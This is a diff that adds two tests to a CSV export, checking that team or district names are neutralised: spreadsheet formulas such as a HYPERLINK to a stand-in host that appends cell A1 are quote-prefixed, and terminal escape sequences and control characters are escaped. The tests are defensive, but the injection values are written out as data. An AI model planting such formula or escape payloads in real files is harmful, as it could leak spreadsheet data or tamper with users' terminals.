@@ -59,3 +59,40 @@ test('a breakdown’s note (a rate’s groups have no value) is on each of its g
     '',
   ].join('\n'));
 });
+
+test('a group a spreadsheet would open as a formula (a council’s own team or district name) is written as text, and figures stay numbers', () => {
+  const groups = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', '+1+1', '-2+3', '@SUM(A1)', 'North - East', 'O’Brien'];
+  const teams: ResultJson = {
+    id: 'x_pct', month: '2026-03', numerator: -1, denominator: 3, value: -33.3, cohort: 3,
+    breakdown: { dimension: 'team', groups: groups.map((group) => ({ group, numerator: -1, denominator: 1, value: -100, cohort: 1 })) },
+  };
+  assert.equal(resultsCsv([teams], true), [
+    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
+    'x_pct,2026-03,team,All,-1,3,-33.3,3,,',
+    `x_pct,2026-03,team,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",-1,1,-100,1,,`,
+    "x_pct,2026-03,team,'+1+1,-1,1,-100,1,,",
+    "x_pct,2026-03,team,'-2+3,-1,1,-100,1,,",
+    "x_pct,2026-03,team,'@SUM(A1),-1,1,-100,1,,",
+    'x_pct,2026-03,team,North - East,-1,1,-100,1,,',
+    'x_pct,2026-03,team,O’Brien,-1,1,-100,1,,',
+    '',
+  ].join('\n'));
+});
+
+test('a group holding a terminal’s escape sequence or another control character is written with escapes, so printing the CSV cannot rewrite the terminal', () => {
+  const groups = ['\x1b[2J\x1b[HTeam', '\tTeam', '\rTeam', 'Team\nTwo', '-\x07'];
+  const teams: ResultJson = {
+    id: 'cla_count', month: '2026-03', numerator: 5, denominator: null, value: 5, cohort: 5,
+    breakdown: { dimension: 'team', groups: groups.map((group) => ({ group, numerator: 1, denominator: null, value: 1, cohort: 1 })) },
+  };
+  assert.equal(resultsCsv([teams], true), [
+    'id,month,dimension,group,numerator,denominator,value,cohort,unavailable,note',
+    'cla_count,2026-03,team,All,5,,5,5,,',
+    'cla_count,2026-03,team,\\x1b[2J\\x1b[HTeam,1,,1,1,,',
+    'cla_count,2026-03,team,\\tTeam,1,,1,1,,',
+    'cla_count,2026-03,team,\\rTeam,1,,1,1,,',
+    'cla_count,2026-03,team,Team\\nTwo,1,,1,1,,',
+    "cla_count,2026-03,team,'-\\x07,1,,1,1,,",
+    '',
+  ].join('\n'));
+});
